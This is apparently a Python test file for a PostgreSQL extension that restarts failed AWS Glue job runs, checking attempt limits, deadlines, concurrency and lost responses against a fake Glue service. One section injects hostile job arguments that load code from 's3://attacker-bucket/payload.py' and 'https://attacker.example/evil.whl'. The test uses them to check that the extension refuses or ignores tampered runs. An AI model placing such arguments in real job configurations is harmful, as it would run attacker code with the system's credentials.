#!/usr/bin/python3
"""Automatic recovery of failed Glue runs against the fake Glue (every request
SigV4-verified and validated against botocore's Glue model): StartJobRun with
the failed run's JobRunId and Arguments, once per failed run (a second call,
and two sessions at once, start nothing more), up to max_attempts per business
date, not while another run is in flight, not when the job's p90 no longer
fits before its deadline, ConcurrentRunsExceededException handled as "a run
of the job is going" (skipped, restarted once it has ended), dry run only logs; the failure alert waits for the restart and,
when restarts are exhausted, says "kant restarted it (2/2)".  Prints TAP lines."""
import json
import os
import sys
import time


sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from taplib import at_once, fresh_db, tap  # noqa: E402

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fakes"))
from fake_glue import FakeGlue  # noqa: E402

DB = "kant_recovery"
SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"


def main():
    glue = FakeGlue(secret_key=SECRET).start()
    conn, cur = fresh_db(DB)
    cur.execute("CREATE EXTENSION kant")
    cur.execute("SET kant.http_retry_base = '20ms'")
    cur.execute("SELECT kant.add_system('hegel', 'glue', 'UTC', default_pipeline => 'nightly')")
    cur.execute("SELECT kant.set_endpoint('hegel', %s, region => 'ap-northeast-1')", (glue.url("/"),))
    cur.execute("SELECT kant.set_credentials('hegel', 'AKIDEXAMPLE', %s)", (SECRET,))
    now = time.time()
    # history: 10 successful runs of 20 minutes (p90 20 min)
    hist = [{"Id": "jr_h%02d" % i, "JobName": "export_users", "JobRunState": "SUCCEEDED", "Attempt": 0,
             "StartedOn": now - 86400 * (i + 2), "CompletedOn": now - 86400 * (i + 2) + 1200,
             "Arguments": {"--business_date": "x"}} for i in range(10)]
    cur.execute("SELECT kant.ingest_glue_job_runs('hegel', %s::jsonb)", (json.dumps({"JobRuns": hist}),))

    def fail(run_id, started_ago=600, ended_ago=60, prev=None, job="export_users", state="FAILED",
             in_glue=True, glue_state=None):
        """A failed run as the collector would ingest it; Glue knows it too
        (GetJobRun answers it, in glue_state if given) unless in_glue is false."""
        r = {"Id": run_id, "JobName": job, "JobRunState": state, "Attempt": 0,
             "StartedOn": now - started_ago, "Arguments": {"--business_date": "2026-11-25", "--full": "true"},
             "ErrorMessage": "An error occurred while calling o123.save"}
        if state != "RUNNING":
            r["CompletedOn"] = now - ended_ago
        if prev:
            r["PreviousRunId"] = prev
        if in_glue:
            g = dict(r, JobRunState=glue_state or state)
            glue.data.glue_runs.setdefault(job, []).insert(0, g)
        cur.execute("SELECT inserted + updated FROM kant.ingest_glue_job_runs('hegel', %s::jsonb)",
                    (json.dumps({"JobRuns": [r]}),))

    def recover(dry=False):
        cur.execute("SELECT job, failed_run, outcome, detail FROM kant.recover_failed_runs(dry_run => %s)", (dry,))
        return cur.fetchall()

    cur.execute("SELECT kant.set_recovery('hegel/export_users', max_attempts => 2, min_wait => '0')")
    # a deadline far enough: done by the end of the day after tomorrow
    cur.execute("""SELECT kant.create_slo('nightly_done', '23:59', pipeline => 'nightly', time_zone => 'UTC',
                       deadline_offset_days => 3)""")
    fail("jr_f1")
    r = recover(dry=True)
    tap(len(r) == 1 and r[0][2] == "dry_run" and not glue.started,
        "dry run: logged what it would do, called nothing: %s" % (r,))
    tap(recover(dry=True) == [], "a second dry run: said once")
    # the dry run holds back nothing: the real call restarts the run
    r = recover()
    tap(len(r) == 1 and r[0][2] == "done" and len(glue.started) == 1
        and glue.started[0] == {"JobName": "export_users", "JobRunId": "jr_f1",
                                "Arguments": {"--business_date": "2026-11-25", "--full": "true"}},
        "a failed run is restarted: StartJobRun with its JobRunId and Arguments: %s" % (glue.started,))
    tap(recover() == [] and len(glue.started) == 1, "called again: nothing (the failed run was restarted once)")
    tap(glue.bad_signatures == 0 and not glue.invalid_replies, "StartJobRun signed and valid for botocore's model")

    # the failure alert waits for the restart kant made
    cur.execute("SELECT count(*) FROM kant.check_conditions() WHERE kind = 'failure'")
    tap(cur.fetchone()[0] == 0, "while kant's restart is under way, no failure alert")

    # the restart fails too: restarted again (2/2); then no more
    fail("jr_f2", started_ago=500, ended_ago=50, prev="jr_f1")
    r = recover()
    tap(len(r) == 1 and r[0][2] == "done" and "restart 2 of 2" in r[0][3], "the restart failed: restarted again: %s" % (r,))
    fail("jr_f3", started_ago=400, ended_ago=40, prev="jr_f2")
    r = recover()
    tap(len(r) == 1 and r[0][2] == "skipped" and "2 of 2" in r[0][3] and len(glue.started) == 2,
        "after max_attempts: skipped, with the reason: %s" % (r,))
    tap(recover() == [], "the reason is logged once, not every minute")
    cur.execute("SELECT summary, kant._slack_message(alert_id, 'opened')->>'blocks' FROM kant.alert WHERE false")
    cur.execute("SELECT * FROM kant.run_checks()")
    cur.execute("""SELECT a.summary, kant._slack_message(a.alert_id, 'opened')::text FROM kant.alert a
                   WHERE a.kind = 'failure'""")
    row = cur.fetchone()
    tap(row is not None and "kant restarted it (2/2)" in row[1],
        "restarts exhausted: the failure alert says kant restarted it (2/2): %s" % (row[0] if row else None))

    # another day: a run in flight, then ConcurrentRunsExceededException, then a deadline too close
    cur.execute("SELECT kant.set_recovery('hegel/export_users', max_attempts => 5, min_wait => '0')")
    fail("jr_g2", started_ago=1200, state="RUNNING")      # started by hand, still going
    fail("jr_g1", started_ago=300, ended_ago=30)
    r = recover()
    tap(len(r) == 1 and r[0][2] == "skipped" and "in flight" in r[0][3] and len(glue.started) == 2,
        "a failed run while another run of the job is in flight: not restarted: %s" % (r,))
    fail("jr_g2", started_ago=1200, ended_ago=200)
    glue.concurrent_running = True
    r = recover()
    tap(len(r) == 1 and r[0][2] == "skipped" and "ConcurrentRunsExceededException" in r[0][3],
        "ConcurrentRunsExceededException: a run of the job is going, skipped for now: %s" % (r,))
    tap(recover() == [] and len(glue.started) == 2, "the reason is logged once")
    # a run of the job going (maybe of another date) is no restart of this
    # failure: once it has ended, the failed run is restarted
    glue.concurrent_running = False
    r = recover()
    tap(len(r) == 1 and r[0][2] == "done" and len(glue.started) == 3,
        "once Glue runs nothing else of the job, the failed run is restarted: %s" % (r,))
    # two sessions at once on a new failure: one StartJobRun
    fail("jr_g3", started_ago=15, ended_ago=5)
    glue.latency = 0.3
    out = at_once(DB, "SELECT outcome FROM kant.recover_failed_runs()")
    glue.latency = 0
    tap(len(glue.started) == 4 and sorted(sum(out, [])) == [("done",)],
        "two sessions at once: one StartJobRun: %s" % (out,))
    # the deadline: now in 10 minutes; the job needs 20 (p90)
    cur.execute("UPDATE kant.slo SET deadline_offset_days = 0, deadline_time = (now() AT TIME ZONE 'UTC' + interval '10 minutes')::time, sla_offset_days = 1")
    cur.execute("UPDATE kant.job_run SET business_date = (now() AT TIME ZONE 'UTC')::date WHERE external_id = 'jr_g3'")
    fail("jr_g4", started_ago=12, ended_ago=3, prev="jr_g3")
    cur.execute("UPDATE kant.job_run SET business_date = (now() AT TIME ZONE 'UTC')::date WHERE external_id = 'jr_g4'")
    r = recover()
    tap(len(r) == 1 and r[0][2] == "skipped" and "deadline cannot be met" in r[0][3] and len(glue.started) == 4,
        "p90 no longer fits before the deadline: not restarted: %s" % (r,))
    cur.execute("SELECT outcome FROM kant.actions WHERE kind = 'recover' ORDER BY action_id")
    log = [x[0] for x in cur.fetchall()]
    tap(log == ["dry_run", "done", "done", "skipped", "skipped", "skipped", "done", "done", "skipped"],
        "every restart and every skip is in kant.actions: %s" % log)

    # a writer reports runs; it never chooses what kant starts with the system's
    # credentials: the run is asked of Glue (GetJobRun) and restarted with Glue's
    # arguments, and a run Glue does not know or does not call failed is refused
    cur.execute("UPDATE kant.slo SET deadline_offset_days = 3, deadline_time = '23:59', sla_offset_days = 4")
    cur.execute("DELETE FROM kant.action_log")
    started = len(glue.started)
    fail("jr_made_up", started_ago=9, ended_ago=3, in_glue=False)
    cur.execute("""UPDATE kant.job_run SET details = jsonb_set(details, '{Arguments}',
                   '{"--extra-py-files": "s3://attacker-bucket/payload.py"}') WHERE external_id = 'jr_made_up'""")
    r = recover()
    again = recover()
    tap(len(r) == 1 and r[0][2] == "refused" and "EntityNotFoundException" in r[0][3] and again == []
        and len(glue.started) == started,
        "a failed run Glue does not know (a writer made it up) is refused for good, no StartJobRun: %s" % (r,))
    fail("jr_not_failed", started_ago=8, ended_ago=2, glue_state="SUCCEEDED")
    r = recover()
    tap(len(r) == 1 and r[0][2] == "refused" and "SUCCEEDED" in r[0][3] and len(glue.started) == started,
        "a run kant holds as failed but Glue calls SUCCEEDED is refused: %s" % (r,))
    fail("jr_real", started_ago=7, ended_ago=1)
    cur.execute("""UPDATE kant.job_run SET details = jsonb_set(details, '{Arguments}',
                   '{"--additional-python-modules": "https://attacker.example/evil.whl"}') WHERE external_id = 'jr_real'""")
    r = recover()
    sent = glue.started[-1] if len(glue.started) > started else {}
    tap(len(r) == 1 and r[0][2] == "done" and sent.get("JobRunId") == "jr_real"
        and sent.get("Arguments") == {"--business_date": "2026-11-25", "--full": "true"},
        "a real failed run is restarted with Glue's arguments, not the ingested ones: %s" % (sent,))
    gets = [q for q in glue.requests if q["target"] == "AWSGlue.GetJobRun"]
    tap(gets and glue.bad_signatures == 0 and not glue.invalid_replies,
        "GetJobRun signed and valid for botocore's model (%d calls)" % len(gets))

    # a restart whose answer was lost (Glue started the run, then a 500) is
    # not repeated (StartJobRun has no idempotency token): the next tick finds
    # Glue's run naming the failed one as PreviousRunId, logs it already and
    # counts it against max_attempts, so a lost answer buys no extra restart
    cur.execute("SELECT kant.set_recovery('hegel/export_users', max_attempts => 2, min_wait => '0')")
    started = len(glue.started)
    glue.live_runs = 3600
    glue.faults.append(("StartJobRun", None, "acted_500"))
    fail("jr_lost1", started_ago=6, ended_ago=1)
    r1 = recover()
    r2 = recover()
    glue.live_runs = None
    fail("jr_lost2", started_ago=4, ended_ago=0.5, prev="jr_lost1")
    r3 = recover()
    tap([x[2] for x in r1 + r2] == ["failed", "already"] and len(glue.started) == started + 1
        and len(r3) == 1 and r3[0][2] == "skipped" and "2 of 2" in r3[0][3],
        "a restart whose answer was lost: one StartJobRun, found at the next tick (already) and counted: the "
        "retry's failure is not restarted past max_attempts 2: %s / %s / %s" % (r1, r2, r3))

    # the newest run of the newest business date: a backfill of an earlier
    # date, started after tonight's failure and done, does not hide it
    cur.execute("SELECT kant.configure_job('hegel', 'nightly_load', pipeline => 'nightly', "
                "bd_argument => '--business_date')")
    cur.execute("SELECT kant.set_recovery('hegel/nightly_load', max_attempts => 1, min_wait => '0')")
    today = time.strftime("%Y-%m-%d", time.gmtime(now))
    earlier = time.strftime("%Y-%m-%d", time.gmtime(now - 3 * 86400))
    for run_id, arg, state, started_ago, ended_ago in (("jr_nl_tonight", today, "FAILED", 600, 300),
                                                       ("jr_nl_backfill", earlier, "SUCCEEDED", 200, 100)):
        r = {"Id": run_id, "JobName": "nightly_load", "JobRunState": state, "Attempt": 0,
             "StartedOn": now - started_ago, "CompletedOn": now - ended_ago, "Arguments": {"--business_date": arg}}
        glue.data.glue_runs.setdefault("nightly_load", []).insert(0, dict(r))
        cur.execute("SELECT kant.ingest_glue_job_runs('hegel', %s::jsonb)", (json.dumps({"JobRuns": [r]}),))
    started = len(glue.started)
    r = [x for x in recover() if x[0] == "nightly_load"]
    tap(len(r) == 1 and r[0][1] == "jr_nl_tonight" and r[0][2] == "done" and len(glue.started) == started + 1,
        "a backfill of an earlier date started after tonight's failure does not hide it: restarted: %s" % (r,))
    glue.stop()
    tap.plan()


main()
